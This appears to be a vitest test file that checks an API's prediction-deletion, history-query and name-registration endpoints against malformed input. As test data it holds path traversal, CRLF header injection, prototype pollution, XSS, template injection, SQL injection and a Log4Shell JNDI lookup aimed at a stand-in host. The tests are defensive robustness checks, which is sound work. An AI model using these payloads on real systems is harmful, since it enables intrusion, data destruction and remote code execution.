import { beforeAll, describe, expect, inject, it } from 'vitest';
import { type Account, ApiClient } from '#tests/support/api-client.ts';
import { expectClearError } from './support/expect-clear-error.ts';

const api = new ApiClient(inject('serverUrl'));

let user: Account;
let predictionId: string;
let before: Awaited<ReturnType<ApiClient['readAccount']>>;
beforeAll(async () => {
  user = await api.register();
  predictionId = await api.predict(user.token);
  before = await api.readAccount(user.token);
});

describe('a prediction id', () => {
  const ids: Record<string, (id: string) => string> = {
    'with a zero byte': (id) => `${id}%00`,
    'with broken percent-encoding': () => '%E0%A4%A',
    'with percent-encoded bytes that are not UTF-8': () => '%ff%fe',
    'with an encoded path to a parent': () => '..%2f..%2fusers%2fprofile',
    'with a line break and a header': () => 'x%0d%0aSet-Cookie:%20a=b',
    'with the prefix of its sort key': (id) => `PREDICTION%23${id}`,
    'of 4,000 letters': () => 'A'.repeat(4000),
    'with letters beyond ASCII': () => encodeURIComponent('ｐｒｅｄｉｃｔｉｏｎ'),
  };

  it.each(Object.keys(ids))('%s returns 404 and deletes nothing', async (kind) => {
    const path = `/api/predictions/delete/${ids[kind]?.(predictionId)}/`;
    expectClearError(await api.call('delete-prediction', { token: user.token, path }), 'not_found');
    expect(await api.readAccount(user.token)).toEqual(before);
  });
});

it.each(['%E0%A4%A', 'limit=%ff', 'limit=1&limit=abc', '__proto__=1', 'a[b]=1', '?????', '&&=&'])(
  'a query of %s returns 200 or 400',
  async (query) => {
    const path = `/api/predictions/history/?${query}`;
    const { status } = await api.call('list-predictions', { token: user.token, path });
    expect([200, 400]).toContain(status);
  },
);

it.each([
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  '{{constructor.constructor("alert(1)")()}}',
  "Robert'); DROP TABLE premia;--",
  '\u0024{jndi:ldap://example.com/a}',
  'محمد',
  '👩‍👩‍👧',
])('a name is stored and returned unchanged: %s', async (name) => {
  const { token } = await api.register({ first_name: name, last_name: name });
  expect((await api.readAccount(token)).profile).toMatchObject({ first_name: name, last_name: name });
});
